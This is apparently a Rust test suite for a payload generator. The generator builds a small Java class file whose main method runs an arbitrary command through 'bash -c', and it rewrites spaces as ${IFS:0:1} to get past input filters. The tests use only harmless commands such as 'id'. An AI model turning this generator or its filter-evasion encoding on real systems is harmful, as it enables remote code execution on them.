use std::io::Cursor;
use std::path::Path;

use miniclass_class_file::{ClassFile, CpInfo};
use miniclass_payload::{PayloadError, TemplateBuilder, EXPECTED_CLASS_NAME};

fn build(commandline: &str) -> miniclass_payload::Payload {
    TemplateBuilder::new()
        .build(Path::new(EXPECTED_CLASS_NAME), commandline)
        .unwrap()
}

#[test]
fn test_output_decodes_as_a_class_file() {
    let payload = build("id");
    let class_file = ClassFile::parse(Cursor::new(payload.bytes)).unwrap();

    assert_eq!(16, class_file.constant_pool.len());
    assert_eq!("Code", class_file.class_name().unwrap());
    assert_eq!(
        Some("java/lang/Object"),
        class_file.super_class().unwrap()
    );
    assert!(class_file.interfaces.is_empty());
    assert!(class_file.fields.is_empty());
    assert_eq!(1, class_file.methods.len());
    assert_eq!(
        "main",
        class_file.method_name(&class_file.methods[0]).unwrap()
    );
}

#[test]
fn test_commandline_lands_in_slot_ten() {
    let payload = build("id");
    let class_file = ClassFile::parse(Cursor::new(payload.bytes)).unwrap();

    assert_eq!(
        &CpInfo::Utf8("bash -c id".to_owned()),
        class_file.constant_pool.entry(10).unwrap()
    );
}

#[test]
fn test_obfuscated_commandline_round_trips() {
    let payload = build("ls -l");
    let class_file = ClassFile::parse(Cursor::new(payload.bytes)).unwrap();

    assert_eq!("bash -c ls${IFS:0:1}-l", payload.encoded_commandline);
    assert_eq!(
        &CpInfo::Utf8("bash -c ls${IFS:0:1}-l".to_owned()),
        class_file.constant_pool.entry(10).unwrap()
    );
}

#[test]
fn test_diagnostics_reflect_both_forms() {
    let payload = build("ls -l");

    assert_eq!("ls -l", payload.original_commandline);
    assert_eq!(payload.encoded_commandline.len(), payload.encoded_size());
    assert_eq!(payload.bytes.len(), payload.total_size());
}

#[test]
fn test_directories_are_ignored_in_the_name_check() {
    assert!(TemplateBuilder::new()
        .build(Path::new("/tmp/out/Code.class"), "id")
        .is_ok());
}

#[test]
fn test_wrong_output_name_is_rejected() {
    assert!(matches!(
        TemplateBuilder::new().build(Path::new("Other.class"), "id"),
        Err(PayloadError::WrongOutputName(_))
    ));
}

#[test]
fn test_oversized_commandline_is_rejected() {
    // 70k of 'a' stays 70k after the rewrite, past the u16 ceiling.
    let commandline = "a".repeat(70_000);

    assert!(matches!(
        TemplateBuilder::new().build(Path::new(EXPECTED_CLASS_NAME), &commandline),
        Err(PayloadError::CommandLineTooLong(70_008))
    ));
}
